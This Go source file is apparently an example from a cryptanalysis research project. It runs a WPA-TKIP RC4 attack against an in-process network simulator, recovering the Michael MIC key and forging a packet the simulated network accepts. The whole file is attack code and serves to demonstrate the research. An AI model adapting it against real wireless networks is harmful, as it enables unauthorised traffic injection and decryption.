// TKIP example: a compact end-to-end run of the §5 WPA-TKIP attack against
// the in-process network simulator — train a per-TSC model, capture
// encryptions of an injected packet, decrypt its MIC+ICV trailer via the
// ICV-pruned candidate list, recover the Michael MIC key, and forge a
// packet the network accepts. (cmd/tkipattack is the fully flagged tool;
// this example uses fixed small parameters so it runs in well under a
// minute.) It exits 1 when the attack or the forgery fails.
package main

import (
	"errors"
	"fmt"
	"os"

	"rc4break/internal/job"
	"rc4break/internal/online"
	"rc4break/internal/tkip"
)

func main() {
	fmt.Println("training per-TSC keystream model (scaled down)...")
	model, err := job.LoadOrTrainModel("", 1<<11, 0, nil)
	if err != nil {
		panic(err)
	}
	rt, err := job.New(job.Spec{Attack: "tkip", Mode: "model", Seed: 1, Model: model}, nil)
	if err != nil {
		panic(err)
	}

	const copies = 6 << 20
	fmt.Printf("capturing %d encrypted copies of the injected packet...\n", copies)
	fmt.Println("walking candidate list, pruning by ICV...")
	res, err := online.Run(online.Config{
		Decoder:       rt.Decoder,
		Oracle:        rt.Oracle,
		Cadence:       online.Cadence{First: copies},
		Budget:        copies,
		MaxCandidates: 1 << 18,
		Feed:          online.FeedFunc(rt.CaptureTo),
	})
	if errors.Is(err, online.ErrBudgetExhausted) {
		fmt.Println("attack failed this run: no confirmed trailer among the walked candidates")
		os.Exit(1)
	}
	if err != nil {
		panic(err)
	}
	// The network's session is the demo one; the attacker's copy carries
	// the recovered MIC key in place of the real one.
	network, attacker := tkip.DemoSession(), tkip.DemoSession()
	attacker.MICKey = rt.Oracle.(*tkip.TrailerOracle).MICKey
	fmt.Printf("correct ICV at candidate %d; recovered MIC key %x (real %x)\n",
		res.Rank, attacker.MICKey, network.MICKey)

	forged := attacker.Encapsulate([]byte("owned by rc4break - forged traffic"), 0xBEEF)
	if _, err := network.Decapsulate(forged); err != nil {
		fmt.Println("forged packet rejected:", err)
		os.Exit(1)
	}
	fmt.Println("forged packet accepted: attacker can now inject and decrypt traffic")
}
